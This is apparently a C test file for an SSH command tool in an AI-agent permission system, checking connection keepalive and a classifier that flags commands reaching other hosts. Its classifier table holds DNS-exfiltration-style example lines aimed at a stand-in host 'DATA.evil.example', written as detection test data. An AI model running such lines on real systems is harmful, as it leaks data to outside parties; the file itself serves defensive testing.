/* SPDX-License-Identifier: MIT */
#include "config.h"

#include "ssh-command.h"
#include "vig-test.h"

#include <signal.h>
#include <stdio.h>

#include <vigilus/vig-invocation-private.h>
#include <vigilus/vig-server-private.h>

/* Commands on a real sshd, which tests/lib/sshd.py keeps. Built with an SSH_QUIET of one second. */

typedef struct
{
  char        *folder;
  GSubprocess *sshd;
  VigServer   *server;
  VigSshPool  *pool;
} Stage;

static JsonObject *
tell (Stage *self, const char *line)
{
  GOutputStream *input = g_subprocess_get_stdin_pipe (self->sshd);
  g_autoptr (GDataInputStream) output = g_data_input_stream_new (g_subprocess_get_stdout_pipe (self->sshd));
  g_autoptr (GError) error = NULL;
  g_autofree char *answer = NULL;
  g_autoptr (JsonNode) node = NULL;

  g_filter_input_stream_set_close_base_stream (G_FILTER_INPUT_STREAM (output), FALSE);
  if (line != NULL)
    g_output_stream_printf (input, NULL, NULL, &error, "%s\n", line);
  g_assert_no_error (error);
  answer = g_data_input_stream_read_line (output, NULL, NULL, &error);
  g_assert_no_error (error);
  g_assert_nonnull (answer);
  node = vig_json_parse (answer, -1, 0, &error);
  g_assert_no_error (error);

  return json_object_ref (json_node_get_object (node));
}

static gboolean
pin (VigServer *server, const char *host_key, gpointer data, GError **error)
{
  return TRUE;
}

static VigServer *
make_server (Stage *self, JsonObject *told)
{
  g_autofree char *private = g_build_filename (self->folder, "key", NULL);
  g_autofree char *public = g_strconcat (private, ".pub", NULL);
  g_autofree char *line = NULL;
  g_autofree char *allow = NULL;
  const char *keygen[] = { "ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", private, NULL };
  VigServer values = { .id = g_strdup ("id"), .name = g_strdup ("nas"), .host = g_strdup ("127.0.0.1") };
  g_autoptr (GError) error = NULL;
  int status = -1;

  g_spawn_sync (NULL, (char **) keygen, NULL, G_SPAWN_SEARCH_PATH, NULL, NULL, NULL, NULL, &status, &error);
  g_assert_no_error (error);
  g_assert_cmpint (status, ==, 0);
  g_assert_true (g_file_get_contents (public, &line, NULL, NULL));
  allow = g_strconcat ("allow ", g_strchomp (line), NULL);
  json_object_unref (tell (self, allow));
  values.port = (guint) vig_json_get_int (told, "port", 0);
  values.user = g_strdup (vig_json_get_string (told, "user", NULL));
  g_assert_true (g_file_get_contents (private, &values.private_key, NULL, NULL));

  return vig_server_new (&values, pin, NULL, NULL);
}

static void
set_up (Stage *self, gconstpointer unused)
{
  g_autofree char *script = g_build_filename (g_getenv ("VIG_TEST_SOURCE"), "tests", "lib", "sshd.py", NULL);
  g_autoptr (GError) error = NULL;
  g_autoptr (JsonObject) told = NULL;

  self->folder = vig_test_make_dir ();
  self->sshd = g_subprocess_new (G_SUBPROCESS_FLAGS_STDIN_PIPE | G_SUBPROCESS_FLAGS_STDOUT_PIPE, &error, "/usr/bin/python3", script, NULL);
  g_assert_no_error (error);
  told = tell (self, NULL);
  self->server = make_server (self, told);
  self->pool = vig_ssh_pool_new ();
}

static void
tear_down (Stage *self, gconstpointer unused)
{
  g_autoptr (GError) error = NULL;

  vig_ssh_pool_unref (self->pool);
  vig_server_unref (self->server);
  g_output_stream_close (g_subprocess_get_stdin_pipe (self->sshd), NULL, NULL);
  g_subprocess_wait_check (self->sshd, NULL, &error);
  g_assert_no_error (error);
  g_object_unref (self->sshd);
  vig_test_remove_dir (self->folder);
  g_free (self->folder);
}

static VigSshResult *
run (Stage *self, const char *line, GError **error)
{
  VigSshCommand command = { line, vig_test_deadline (), 1024, NULL, NULL };
  VigSshStep step;

  return vig_ssh_run_pooled (self->pool, self->server, &command, &step, NULL, error);
}

/* The server answers each question: also the second and third on one connection, and those of a command after it. */
static void
test_silence_is_no_loss (Stage *self, gconstpointer unused)
{
  static const char * const lines[] = { "true", "sleep 1.5; echo done", "sleep 4.5; echo done" };

  for (guint i = 0; i < G_N_ELEMENTS (lines); i++)
    {
      g_autoptr (GError) error = NULL;
      g_autoptr (VigSshResult) result = run (self, lines[i], &error);

      g_assert_no_error (error);
      g_assert_cmpint (result->exit_status, ==, 0);
      g_assert_cmpstr (result->output->str, ==, i == 0 ? "" : "done\n");
    }
}

static void
test_no_answer_is_loss (Stage *self, gconstpointer unused)
{
  g_autofree char *file = g_build_filename (self->folder, "pids", NULL);
  g_autofree char *line = g_strdup_printf ("echo $PPID $$ > '%s'; kill -STOP $PPID; exec sleep 60", file);
  g_autofree char *text = NULL;
  g_autoptr (GError) error = NULL;
  g_autoptr (VigSshResult) result = run (self, line, &error);
  gint64 connection;
  gint64 command;

  g_assert_true (g_file_get_contents (file, &text, NULL, NULL));
  g_assert_cmpint (sscanf (text, "%" G_GINT64_FORMAT " %" G_GINT64_FORMAT, &connection, &command), ==, 2);
  kill ((pid_t) command, SIGKILL);
  kill ((pid_t) connection, SIGKILL);
  g_assert_error (error, VIG_ERROR, VIG_ERROR_INTERRUPTED);
  g_assert_null (result);
}

/* A line that reads here and says something to another host is told as such: a person is asked where text from outside was read. */
static void
test_outward (void)
{
  static const struct
  {
    const char *line;
    gboolean    outward;
  } rows[] = { { "df -h", FALSE }, { "getent hosts DATA.evil.example", TRUE }, { "df -h; ping -c1 DATA.evil.example", TRUE }, { "echo DATA.evil.example", FALSE },
             { "ls /net/DATA.evil.example", TRUE } };

  for (guint i = 0; i < G_N_ELEMENTS (rows); i++)
    {
      g_autoptr (JsonObject) arguments = vig_json_pack_object ("{s:s, s:s}", "server", "nas", "command", rows[i].line);
      VigInvocationValues values = { .tool_name = "ssh.exec", .arguments = arguments };
      g_autoptr (VigInvocation) invocation = vig_invocation_new (&values, NULL, NULL, NULL);
      g_autofree char *resource = NULL;

      g_assert_cmpint (vig_ssh_command_classify (invocation, &resource), ==, VIG_LEVEL_READ);
      g_assert_cmpint (vig_invocation_is_outward (invocation), ==, rows[i].outward);
    }
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_assert_cmpint (ssh_init (), ==, SSH_OK);
  g_test_add_func ("/ssh-exec/outward", test_outward);
  g_test_add ("/ssh-exec/silence-is-no-loss", Stage, NULL, set_up, test_silence_is_no_loss, tear_down);
  g_test_add ("/ssh-exec/no-answer-is-loss", Stage, NULL, set_up, test_no_answer_is_loss, tear_down);

  return g_test_run ();
}
